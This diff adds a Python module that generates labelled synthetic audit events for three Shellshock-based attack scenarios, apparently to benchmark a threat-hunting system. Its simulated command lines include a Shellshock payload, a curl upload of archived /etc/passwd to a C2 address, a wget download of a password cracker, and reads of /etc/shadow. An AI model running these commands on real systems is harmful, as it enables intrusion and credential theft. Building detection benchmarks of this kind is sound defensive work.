@@ -1,0 +1,274 @@
+"""Multi-step attack scenario generators.
+
+The paper demonstrates ThreatRaptor on two multi-step intrusive attacks that
+exploit system vulnerabilities and exfiltrate sensitive data (Section III):
+
+* **Password Cracking After Shellshock Penetration** — exploit Shellshock,
+  fetch an image from a cloud service whose EXIF metadata encodes the C2 IP,
+  download a password cracker from the C2 host, and run it against the shadow
+  file to extract clear-text passwords.
+
+* **Data Leakage After Shellshock Penetration** — scan the file system, scrape
+  files into a single compressed file, and transfer it back to the C2 server.
+  The final stage of this attack is the Figure 2 data-leakage chain
+  (tar → bzip2 → gpg → curl → C2), which this module reproduces step by step.
+
+Every scenario labels the events it emits as malicious so that hunting
+precision/recall can be computed against ground truth.  The scenarios also
+expose the *expected hunting answer*: the set of (subject exe, operation,
+object identifier) steps that a correct TBQL query should return.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+from repro.auditing.events import Operation, SystemEvent
+from repro.auditing.workload.base import ScenarioBuilder, WorkloadGenerator
+
+
+@dataclass(frozen=True)
+class AttackStep:
+    """Ground-truth description of one step of an injected attack."""
+
+    subject_exe: str
+    operation: Operation
+    object_identifier: str
+    event_id: int
+
+
+@dataclass
+class AttackGroundTruth:
+    """Ground truth produced by an attack generator for evaluation."""
+
+    name: str
+    steps: list[AttackStep] = field(default_factory=list)
+    event_ids: set[int] = field(default_factory=set)
+
+    def record(self, event: SystemEvent, subject_exe: str, object_identifier: str) -> None:
+        """Record one attack step and its concrete event id."""
+        self.steps.append(
+            AttackStep(
+                subject_exe=subject_exe,
+                operation=event.operation,
+                object_identifier=object_identifier,
+                event_id=event.event_id,
+            )
+        )
+        self.event_ids.add(event.event_id)
+
+
+class AttackScenario(WorkloadGenerator):
+    """Base class for attack scenarios that track ground truth."""
+
+    name = "attack"
+
+    def __init__(self) -> None:
+        self.ground_truth = AttackGroundTruth(name=self.name)
+
+    def _mark(
+        self,
+        event: SystemEvent,
+        subject_exe: str,
+        object_identifier: str,
+    ) -> SystemEvent:
+        self.ground_truth.record(event, subject_exe, object_identifier)
+        return event
+
+
+# ---------------------------------------------------------------------------
+# Figure 2: the data-leakage chain used throughout the paper's walkthrough.
+# ---------------------------------------------------------------------------
+
+
+class Figure2DataLeakageChain(AttackScenario):
+    """The 8-step data-leakage chain of the paper's Figure 2.
+
+    Steps (each labelled malicious, each recorded in the ground truth):
+
+    1. ``/bin/tar`` reads ``/etc/passwd``
+    2. ``/bin/tar`` writes ``/tmp/upload.tar``
+    3. ``/bin/bzip2`` reads ``/tmp/upload.tar``
+    4. ``/bin/bzip2`` writes ``/tmp/upload.tar.bz2``
+    5. ``/usr/bin/gpg`` reads ``/tmp/upload.tar.bz2``
+    6. ``/usr/bin/gpg`` writes ``/tmp/upload``
+    7. ``/usr/bin/curl`` reads ``/tmp/upload``
+    8. ``/usr/bin/curl`` connects to ``192.168.29.128``
+    """
+
+    name = "figure2-data-leakage"
+    C2_IP = "192.168.29.128"
+
+    def generate(self, builder: ScenarioBuilder) -> None:
+        tar = builder.spawn_process("/bin/tar", cmdline="tar -cf /tmp/upload.tar /etc/passwd")
+        bzip2 = builder.spawn_process("/bin/bzip2", cmdline="bzip2 /tmp/upload.tar")
+        gpg = builder.spawn_process("/usr/bin/gpg", cmdline="gpg -c /tmp/upload.tar.bz2")
+        curl = builder.spawn_process("/usr/bin/curl", cmdline=f"curl -T /tmp/upload {self.C2_IP}")
+
+        passwd = builder.file("/etc/passwd")
+        upload_tar = builder.file("/tmp/upload.tar")
+        upload_bz2 = builder.file("/tmp/upload.tar.bz2")
+        upload = builder.file("/tmp/upload")
+        c2 = builder.connection(dstip=self.C2_IP, dstport=443)
+
+        self._mark(builder.read(tar, passwd, amount=4096, malicious=True), "/bin/tar", "/etc/passwd")
+        self._mark(builder.write(tar, upload_tar, amount=4096, malicious=True), "/bin/tar", "/tmp/upload.tar")
+        self._mark(builder.read(bzip2, upload_tar, amount=4096, malicious=True), "/bin/bzip2", "/tmp/upload.tar")
+        self._mark(builder.write(bzip2, upload_bz2, amount=2048, malicious=True), "/bin/bzip2", "/tmp/upload.tar.bz2")
+        self._mark(builder.read(gpg, upload_bz2, amount=2048, malicious=True), "/usr/bin/gpg", "/tmp/upload.tar.bz2")
+        self._mark(builder.write(gpg, upload, amount=2304, malicious=True), "/usr/bin/gpg", "/tmp/upload")
+        self._mark(builder.read(curl, upload, amount=2304, malicious=True), "/usr/bin/curl", "/tmp/upload")
+        self._mark(builder.connect(curl, c2, malicious=True), "/usr/bin/curl", self.C2_IP)
+
+
+# ---------------------------------------------------------------------------
+# Demo attack 1: password cracking after Shellshock penetration.
+# ---------------------------------------------------------------------------
+
+
+class PasswordCrackingAttack(AttackScenario):
+    """Password cracking after Shellshock penetration (Section III, attack 1).
+
+    Steps:
+
+    1. Shellshock exploit: the web server's CGI bash handler is coerced into
+       spawning an attacker shell (``accept`` from the attacker, ``fork`` of
+       ``/bin/bash``).
+    2. The shell uses ``/usr/bin/curl`` to connect to the Dropbox-like cloud
+       service and download an image whose EXIF metadata encodes the C2 IP.
+    3. The shell runs ``/usr/bin/exiftool``-style extraction by reading the
+       image.
+    4. ``/usr/bin/wget`` connects to the C2 host and downloads the password
+       cracker binary ``/tmp/crack``.
+    5. The cracker is made executable and launched.
+    6. The cracker reads ``/etc/shadow`` and ``/etc/passwd``.
+    7. The cracker writes the cracked clear-text passwords to
+       ``/tmp/passwords.txt``.
+    """
+
+    name = "password-cracking"
+    ATTACKER_IP = "162.125.248.18"  # the cloud service (Dropbox-like) endpoint
+    C2_IP = "192.168.29.128"
+
+    def generate(self, builder: ScenarioBuilder) -> None:
+        apache = builder.spawn_process("/usr/sbin/apache2", cmdline="apache2 -k start", owner="www-data")
+        cgi_bash = builder.spawn_process(
+            "/bin/bash", cmdline="() { :; }; /bin/bash -i", owner="www-data"
+        )
+        curl = builder.spawn_process("/usr/bin/curl", cmdline="curl -O https://dropbox/c2.jpg", owner="www-data")
+        wget = builder.spawn_process("/usr/bin/wget", cmdline=f"wget http://{self.C2_IP}/crack", owner="www-data")
+        cracker = builder.spawn_process("/tmp/crack", cmdline="/tmp/crack /etc/shadow", owner="www-data")
+
+        attacker_conn = builder.connection(dstip="198.18.0.66", dstport=80)
+        dropbox_conn = builder.connection(dstip=self.ATTACKER_IP, dstport=443)
+        c2_conn = builder.connection(dstip=self.C2_IP, dstport=80)
+        image = builder.file("/tmp/c2.jpg")
+        cracker_file = builder.file("/tmp/crack")
+        shadow = builder.file("/etc/shadow")
+        passwd = builder.file("/etc/passwd")
+        cracked = builder.file("/tmp/passwords.txt")
+
+        # Step 1: Shellshock penetration.
+        self._mark(builder.emit(apache, Operation.ACCEPT, attacker_conn, malicious=True), "/usr/sbin/apache2", "198.18.0.66")
+        self._mark(builder.fork(apache, cgi_bash, malicious=True), "/usr/sbin/apache2", "/bin/bash")
+        # Step 2: download the image from the cloud service.
+        self._mark(builder.fork(cgi_bash, curl, malicious=True), "/bin/bash", "/usr/bin/curl")
+        self._mark(builder.connect(curl, dropbox_conn, malicious=True), "/usr/bin/curl", self.ATTACKER_IP)
+        self._mark(builder.recv(curl, dropbox_conn, amount=1 << 18, malicious=True), "/usr/bin/curl", self.ATTACKER_IP)
+        self._mark(builder.write(curl, image, amount=1 << 18, malicious=True), "/usr/bin/curl", "/tmp/c2.jpg")
+        # Step 3: extract the C2 IP from the EXIF metadata.
+        self._mark(builder.read(cgi_bash, image, amount=1 << 18, malicious=True), "/bin/bash", "/tmp/c2.jpg")
+        # Step 4: download the password cracker from the C2 host.
+        self._mark(builder.fork(cgi_bash, wget, malicious=True), "/bin/bash", "/usr/bin/wget")
+        self._mark(builder.connect(wget, c2_conn, malicious=True), "/usr/bin/wget", self.C2_IP)
+        self._mark(builder.recv(wget, c2_conn, amount=1 << 20, malicious=True), "/usr/bin/wget", self.C2_IP)
+        self._mark(builder.write(wget, cracker_file, amount=1 << 20, malicious=True), "/usr/bin/wget", "/tmp/crack")
+        # Step 5: launch the cracker.
+        self._mark(builder.fork(cgi_bash, cracker, malicious=True), "/bin/bash", "/tmp/crack")
+        self._mark(builder.execute(cracker, cracker_file, malicious=True), "/tmp/crack", "/tmp/crack")
+        # Step 6: read the password databases.
+        self._mark(builder.read(cracker, shadow, amount=4096, malicious=True), "/tmp/crack", "/etc/shadow")
+        self._mark(builder.read(cracker, passwd, amount=4096, malicious=True), "/tmp/crack", "/etc/passwd")
+        # Step 7: write the cracked passwords.
+        self._mark(builder.write(cracker, cracked, amount=1024, malicious=True), "/tmp/crack", "/tmp/passwords.txt")
+
+
+# ---------------------------------------------------------------------------
+# Demo attack 2: data leakage after Shellshock penetration.
+# ---------------------------------------------------------------------------
+
+
+class DataLeakageAttack(AttackScenario):
+    """Data leakage after Shellshock penetration (Section III, attack 2).
+
+    The attacker scans the file system, scrapes valuable files into a single
+    compressed archive and transfers it back to the C2 server.  The final
+    exfiltration stage reproduces the Figure 2 chain.
+    """
+
+    name = "data-leakage"
+    C2_IP = "192.168.29.128"
+
+    def __init__(self, scanned_files: int = 12) -> None:
+        super().__init__()
+        self.scanned_files = scanned_files
+
+    def generate(self, builder: ScenarioBuilder) -> None:
+        apache = builder.spawn_process("/usr/sbin/apache2", cmdline="apache2 -k start", owner="www-data")
+        shell = builder.spawn_process(
+            "/bin/bash", cmdline="() { :; }; /bin/bash -i", owner="www-data"
+        )
+        find = builder.spawn_process("/usr/bin/find", cmdline="find / -name '*.key'", owner="www-data")
+        tar = builder.spawn_process("/bin/tar", cmdline="tar -cf /tmp/upload.tar ...", owner="www-data")
+        bzip2 = builder.spawn_process("/bin/bzip2", cmdline="bzip2 /tmp/upload.tar", owner="www-data")
+        gpg = builder.spawn_process("/usr/bin/gpg", cmdline="gpg -c /tmp/upload.tar.bz2", owner="www-data")
+        curl = builder.spawn_process("/usr/bin/curl", cmdline=f"curl -T /tmp/upload {self.C2_IP}", owner="www-data")
+
+        attacker_conn = builder.connection(dstip="198.18.0.66", dstport=80)
+        c2_conn = builder.connection(dstip=self.C2_IP, dstport=443)
+        passwd = builder.file("/etc/passwd")
+        upload_tar = builder.file("/tmp/upload.tar")
+        upload_bz2 = builder.file("/tmp/upload.tar.bz2")
+        upload = builder.file("/tmp/upload")
+
+        # Penetration.
+        self._mark(builder.emit(apache, Operation.ACCEPT, attacker_conn, malicious=True), "/usr/sbin/apache2", "198.18.0.66")
+        self._mark(builder.fork(apache, shell, malicious=True), "/usr/sbin/apache2", "/bin/bash")
+        # File system scanning.
+        self._mark(builder.fork(shell, find, malicious=True), "/bin/bash", "/usr/bin/find")
+        for index in range(self.scanned_files):
+            sensitive = builder.file(f"/home/alice/secrets/key-{index}.pem")
+            self._mark(
+                builder.read(find, sensitive, amount=512, malicious=True),
+                "/usr/bin/find",
+                f"/home/alice/secrets/key-{index}.pem",
+            )
+        # Scrape + compress + encrypt + exfiltrate (the Figure 2 chain).
+        self._mark(builder.fork(shell, tar, malicious=True), "/bin/bash", "/bin/tar")
+        self._mark(builder.read(tar, passwd, amount=4096, malicious=True), "/bin/tar", "/etc/passwd")
+        for index in range(self.scanned_files):
+            sensitive = builder.file(f"/home/alice/secrets/key-{index}.pem")
+            self._mark(
+                builder.read(tar, sensitive, amount=512, malicious=True),
+                "/bin/tar",
+                f"/home/alice/secrets/key-{index}.pem",
+            )
+        self._mark(builder.write(tar, upload_tar, amount=1 << 16, malicious=True), "/bin/tar", "/tmp/upload.tar")
+        self._mark(builder.fork(shell, bzip2, malicious=True), "/bin/bash", "/bin/bzip2")
+        self._mark(builder.read(bzip2, upload_tar, amount=1 << 16, malicious=True), "/bin/bzip2", "/tmp/upload.tar")
+        self._mark(builder.write(bzip2, upload_bz2, amount=1 << 14, malicious=True), "/bin/bzip2", "/tmp/upload.tar.bz2")
+        self._mark(builder.fork(shell, gpg, malicious=True), "/bin/bash", "/usr/bin/gpg")
+        self._mark(builder.read(gpg, upload_bz2, amount=1 << 14, malicious=True), "/usr/bin/gpg", "/tmp/upload.tar.bz2")
+        self._mark(builder.write(gpg, upload, amount=1 << 14, malicious=True), "/usr/bin/gpg", "/tmp/upload")
+        self._mark(builder.fork(shell, curl, malicious=True), "/bin/bash", "/usr/bin/curl")
+        self._mark(builder.read(curl, upload, amount=1 << 14, malicious=True), "/usr/bin/curl", "/tmp/upload")
+        self._mark(builder.connect(curl, c2_conn, malicious=True), "/usr/bin/curl", self.C2_IP)
+        self._mark(builder.send(curl, c2_conn, amount=1 << 14, malicious=True), "/usr/bin/curl", self.C2_IP)
+
+
+#: All attack scenarios keyed by name, used by the CLI and benchmark harness.
+ATTACK_SCENARIOS: dict[str, type[AttackScenario]] = {
+    Figure2DataLeakageChain.name: Figure2DataLeakageChain,
+    PasswordCrackingAttack.name: PasswordCrackingAttack,
+    DataLeakageAttack.name: DataLeakageAttack,
+}
